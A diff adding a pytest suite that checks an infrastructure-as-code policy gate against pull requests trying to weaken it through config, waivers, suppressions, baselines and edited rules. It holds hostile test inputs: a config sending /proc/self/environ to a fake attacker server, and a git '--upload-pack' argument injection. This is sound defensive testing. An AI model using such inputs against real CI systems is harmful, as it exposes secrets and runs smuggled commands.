@@ -1,0 +1,347 @@
+"""Issue #13's attacks on the gate's own inputs, each made by a pull request that adds files to the tree.
+
+Every test builds a real git repository: ``main`` holds ``infra/main.tf`` with one high-severity
+violation (an unencrypted EBS volume, ENC-EBS-001), the ``pr`` branch adds the attack, and the scan runs
+as docs/ci.md recommends, from the repository root: ``iacgate scan infra --trusted-ref main``. The gate
+must still fail (exit 1), or stop with a clear message (2/3), with nothing sent anywhere. The attacks on
+configuration are also run without a trusted ref, where configuration in the tree may only tighten.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import shutil
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+
+VOLUME = """\
+resource "aws_ebs_volume" "data" {
+  availability_zone = "eu-west-1a"
+  size              = 10
+  encrypted         = false
+}
+"""
+SECRET = "s3cr3t-ci-token-do-not-leak"
+
+
+def git(repo: Path, *args: str) -> str:
+    done = subprocess.run(
+        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    return done.stdout
+
+
+def commit(repo: Path, message: str) -> None:
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "--allow-empty", "-m", message)
+
+
+def iacgate(repo: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    inherited = {key: value for key, value in os.environ.items() if key != "IACGATE_TRUSTED_REF"}
+    environment = {**inherited, "IACGATE_TODAY": "2026-03-02", "IACGATE_OPA_TOKEN": SECRET, **(env or {})}
+    return subprocess.run(
+        [sys.executable, "-m", "iacgate", "scan", "infra", "--format", "json", *args],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env=environment,
+    )
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    """``main`` with the violation, checked out on a new ``pr`` branch that the test then edits."""
+    root = tmp_path / "repo"
+    (root / "infra").mkdir(parents=True)
+    (root / "infra" / "main.tf").write_text(VOLUME, encoding="utf-8")
+    git(root, "init", "-q", "-b", "main")
+    commit(root, "infra with one unencrypted volume")
+    git(root, "checkout", "-q", "-b", "pr")
+    return root
+
+
+def blocking(result: subprocess.CompletedProcess[str]) -> list[str]:
+    report = json.loads(result.stdout)
+    return [f["rule_id"] for f in report["findings"] if f["blocking"]]
+
+
+def notes(result: subprocess.CompletedProcess[str]) -> list[str]:
+    return [n["message"] for n in json.loads(result.stdout)["notifications"]]
+
+
+MODES = [pytest.param(("--trusted-ref", "main"), id="trusted-ref"), pytest.param((), id="no-ref")]
+
+WEAKENING_CONFIGS = {
+    "fail_on": "fail_on: critical\n",
+    "packs": "packs: [residency]\nresidency:\n  allowed_regions: ['*']\n",
+    "enforcement": "enforcement:\n  encryption: advisory\n  ENC-EBS-001: advisory\n",
+    "exclude": 'exclude: ["*", "**", "infra/*"]\n',
+    "max_waiver_days": "max_waiver_days: 100000\nwaivers: iacgate-waivers.yaml\n",
+    "settings": "settings:\n  min_log_retention_days: 0\n",
+}
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("name", sorted(WEAKENING_CONFIGS))
+def test_config_in_the_change_cannot_weaken_the_gate(repo: Path, name: str, mode: tuple[str, ...]) -> None:
+    (repo / "iacgate.yaml").write_text(WEAKENING_CONFIGS[name], encoding="utf-8")
+    commit(repo, f"weaken the gate: {name}")
+    result = iacgate(repo, *mode)
+    assert result.returncode == 1, result.stderr
+    assert "ENC-EBS-001" in blocking(result)
+    said = "\n".join(notes(result))
+    if mode:
+        assert "this change edits iacgate.yaml, which can change the gate" in said
+    else:
+        assert "configuration found in the scanned tree may only tighten the gate" in said
+
+
+def test_config_in_the_tree_may_tighten(repo: Path) -> None:
+    # A medium finding with fail_on: medium from the tree blocks; the default (high) would not.
+    (repo / "infra" / "main.tf").write_text(
+        VOLUME.replace("false", "true")
+        + 'resource "aws_cloudwatch_log_group" "app" {\n  name = "app"\n  retention_in_days = 7\n}\n',
+        encoding="utf-8",
+    )
+    commit(repo, "medium finding only")
+    assert iacgate(repo).returncode == 0
+    (repo / "iacgate.yaml").write_text("fail_on: low\n", encoding="utf-8")
+    result = iacgate(repo)
+    assert result.returncode == 1, result.stdout
+    assert not [note for note in notes(result) if "may only tighten" in note]
+
+
+def test_trusted_ref_reads_the_reviewed_config(repo: Path) -> None:
+    # Reviewed on main: this team gates on critical only. The change cannot turn that back, nor on.
+    git(repo, "checkout", "-q", "main")
+    (repo / "iacgate.yaml").write_text("fail_on: critical\n", encoding="utf-8")
+    commit(repo, "gate on critical (reviewed)")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "merge", "-q", "main")
+    assert iacgate(repo, "--trusted-ref", "main").returncode == 0
+    (repo / "iacgate.yaml").write_text("fail_on: critical\nexclude: ['**']\n", encoding="utf-8")
+    result = iacgate(repo, "--trusted-ref", "main")
+    assert result.returncode == 0
+    assert any("this change edits iacgate.yaml" in note for note in notes(result))
+    # The ref may come from the environment too.
+    (repo / "iacgate.yaml").write_text("fail_on: low\n", encoding="utf-8")
+    assert iacgate(repo, env={"IACGATE_TRUSTED_REF": "main"}).returncode == 0
+
+
+class _Attacker(http.server.BaseHTTPRequestHandler):
+    """A fake server at the attacker's URL that records every request (headers and body)."""
+
+    seen: list[str] = []
+
+    def _record(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
+        type(self).seen.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.end_headers()
+        self.wfile.write(b'{"result": {}}')
+
+    do_GET = do_PUT = do_POST = do_DELETE = _record
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def attacker() -> Iterator[tuple[str, list[str]]]:
+    seen: list[str] = []
+    handler = type("Handler", (_Attacker,), {"seen": seen})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("token_file", [True, False], ids=["token_file", "env-token"])
+def test_config_in_the_change_cannot_direct_requests_or_credentials(
+    repo: Path, attacker: tuple[str, list[str]], mode: tuple[str, ...], token_file: bool
+) -> None:
+    url, seen = attacker
+    opa = f"  url: {url}\n" + ("  token_file: /proc/self/environ\n" if token_file else "")
+    (repo / "iacgate.yaml").write_text(f"engine: opa\nopa:\n{opa}", encoding="utf-8")
+    commit(repo, "send the environment away")
+    result = iacgate(repo, *mode)
+    assert result.returncode == 1, result.stderr
+    assert seen == []
+    assert SECRET not in result.stdout + result.stderr
+
+
+def test_waivers_in_the_change_are_not_applied_even_beside_a_trusted_config(
+    repo: Path, tmp_path: Path
+) -> None:
+    waiver = (
+        "waivers:\n  - rule: encryption\n    resource: '*'\n    reason: trust me\n"
+        "    approved_by: attacker\n    expires: 2999-12-31\n"
+    )
+    (repo / "iacgate-waivers.yaml").write_text(waiver, encoding="utf-8")
+    commit(repo, "waive everything")
+    trusted = tmp_path / "trusted.yaml"  # kept on the runner, outside the repository
+    trusted.write_text("fail_on: high\n", encoding="utf-8")
+    result = iacgate(repo, "--config", str(trusted), "--no-inline-waivers")
+    assert result.returncode == 1, result.stderr
+    assert any("iacgate-waivers.yaml found in the scanned tree is not applied" in n for n in notes(result))
+    result = iacgate(repo, "--trusted-ref", "main")
+    assert result.returncode == 1
+    assert any("this change edits iacgate-waivers.yaml" in note for note in notes(result))
+
+
+def test_waivers_have_a_default_maximum_lifetime(repo: Path, tmp_path: Path) -> None:
+    waivers = tmp_path / "waivers.yaml"
+    waivers.write_text(
+        "waivers:\n  - rule: ENC-EBS-001\n    resource: '*'\n    reason: legacy\n"
+        "    approved_by: alice\n    expires: 2999-12-31\n",
+        encoding="utf-8",
+    )
+    result = iacgate(repo, "--waivers", str(waivers))
+    assert result.returncode == 2
+    assert "expires 2999-12-31, more than 365 days from 2026-03-02" in result.stderr
+    assert str(waivers) in result.stderr
+
+
+def test_reviewed_waivers_on_the_trusted_ref_apply(repo: Path) -> None:
+    git(repo, "checkout", "-q", "main")
+    (repo / "iacgate-waivers.yaml").write_text(
+        "waivers:\n  - rule: ENC-EBS-001\n    resource: aws_ebs_volume.data\n    reason: legacy\n"
+        "    approved_by: alice\n    expires: 2026-06-01\n",
+        encoding="utf-8",
+    )
+    commit(repo, "reviewed waiver")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "merge", "-q", "main")
+    assert iacgate(repo, "--trusted-ref", "main").returncode == 0
+    # The change extends it by a thousand years: the ref's version still rules, and expires.
+    path = repo / "iacgate-waivers.yaml"
+    path.write_text(path.read_text().replace("2026-06-01", "3026-06-01"), encoding="utf-8")
+    commit(repo, "extend the waiver")
+    assert iacgate(repo, "--trusted-ref", "main", env={"IACGATE_TODAY": "2026-07-01"}).returncode == 1
+
+
+def test_inline_comment_added_by_the_change_is_not_honoured(repo: Path) -> None:
+    path = repo / "infra" / "main.tf"
+    path.write_text("# iacgate:ignore ENC-EBS-001 it is fine\n" + VOLUME, encoding="utf-8")
+    commit(repo, "suppress it")
+    result = iacgate(repo, "--trusted-ref", "main")
+    assert result.returncode == 1, result.stderr
+    assert any(
+        "inline suppression of ENC-EBS-001 not honoured: this change adds or edits it" in note
+        for note in notes(result)
+    )
+
+
+def test_inline_comment_reviewed_on_the_ref_still_applies(repo: Path) -> None:
+    git(repo, "checkout", "-q", "main")
+    path = repo / "infra" / "main.tf"
+    path.write_text("# iacgate:ignore ENC-EBS-001 scratch data, wiped nightly\n" + VOLUME, encoding="utf-8")
+    commit(repo, "reviewed suppression")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "merge", "-q", "main")
+    # The change edits the volume (size) but not the suppression: still honoured.
+    path.write_text(path.read_text().replace("size              = 10", "size = 20"), encoding="utf-8")
+    commit(repo, "bigger volume")
+    assert iacgate(repo, "--trusted-ref", "main").returncode == 0
+
+
+CFN_SUPPRESSED = """\
+AWSTemplateFormatVersion: "2010-09-09"
+Resources:
+  Ledger:
+    Type: AWS::EC2::Volume
+    Metadata:
+      iacgate:
+        ignore:
+          - rule: ENC-EBS-001
+            reason: trust me
+    Properties:
+      AvailabilityZone: eu-west-1a
+      Size: 10
+      Encrypted: false
+"""
+
+
+def test_cloudformation_metadata_suppression_added_by_the_change(repo: Path) -> None:
+    (repo / "infra" / "main.tf").write_text(VOLUME.replace("false", "true"), encoding="utf-8")
+    template = repo / "infra" / "ledger.yaml"
+    template.write_text(CFN_SUPPRESSED.replace(" " * 4 + "Metadata:\n", "    Metadata: {}\n", 1).replace(
+        "      iacgate:\n        ignore:\n          - rule: ENC-EBS-001\n            reason: trust me\n", ""
+    ), encoding="utf-8")  # fmt: skip
+    commit(repo, "a template without suppression")
+    git(repo, "branch", "-f", "main", "HEAD")
+    template.write_text(CFN_SUPPRESSED, encoding="utf-8")
+    commit(repo, "suppress it in Metadata")
+    result = iacgate(repo, "--trusted-ref", "main")
+    assert result.returncode == 1, result.stderr
+    assert blocking(result) == ["ENC-EBS-001"]
+    assert any("inline suppression of ENC-EBS-001 not honoured" in note for note in notes(result))
+    # Once reviewed and on the ref, the same Metadata applies.
+    git(repo, "branch", "-f", "main", "HEAD")
+    assert iacgate(repo, "--trusted-ref", "main").returncode == 0
+
+
+def test_baseline_added_by_the_change_is_not_read(repo: Path) -> None:
+    baseline = subprocess.run(
+        [sys.executable, "-m", "iacgate", "baseline", "create", "infra", "-o", "baseline.sarif"],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert baseline.returncode == 0
+    commit(repo, "everything is old now")
+    assert iacgate(repo, "--baseline", "baseline.sarif", "--fail-on-new-only").returncode == 0
+    result = iacgate(repo, "--baseline", "baseline.sarif", "--fail-on-new-only", "--trusted-ref", "main")
+    assert result.returncode == 2
+    assert "--baseline baseline.sarif (at main): no such file on the trusted ref" in result.stderr
+
+
+def test_custom_pack_weakened_by_the_change_runs_as_reviewed(repo: Path) -> None:
+    example = Path(__file__).resolve().parents[2] / "docs" / "custom-pack-example"
+    git(repo, "checkout", "-q", "main")
+    shutil.copytree(example, repo / "packs" / "acme", ignore=shutil.ignore_patterns("fixtures"))
+    (repo / "infra" / "main.tf").write_text(
+        VOLUME.replace("false", "true") + 'resource "aws_s3_bucket" "exports" {\n  bucket = "x"\n}\n',
+        encoding="utf-8",
+    )
+    commit(repo, "custom pack, a bucket without owner tag")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "merge", "-q", "main")
+    # The change makes the rule never fire.
+    rego = repo / "packs" / "acme" / "policies" / "owner_tag.rego"
+    rego.write_text(rego.read_text().replace("deny", "_never_deny"), encoding="utf-8")
+    commit(repo, "weaken the custom rule")
+    args = ("--pack-dir", "packs/acme", "--fail-on", "low", "--trusted-ref", "main")
+    result = iacgate(repo, *args)
+    assert result.returncode == 1, result.stderr
+    assert "ACME-TAG-001" in blocking(result)
+    assert any("this change edits packs/acme/policies/owner_tag.rego" in note for note in notes(result))
+
+
+def test_trusted_ref_that_does_not_exist_is_a_usage_error(repo: Path) -> None:
+    result = iacgate(repo, "--trusted-ref", "origin/nope")
+    assert result.returncode == 2
+    assert "--trusted-ref origin/nope: no such commit" in result.stderr
+    result = iacgate(repo, "--trusted-ref", "--upload-pack=touch /tmp/x")
+    assert result.returncode == 2
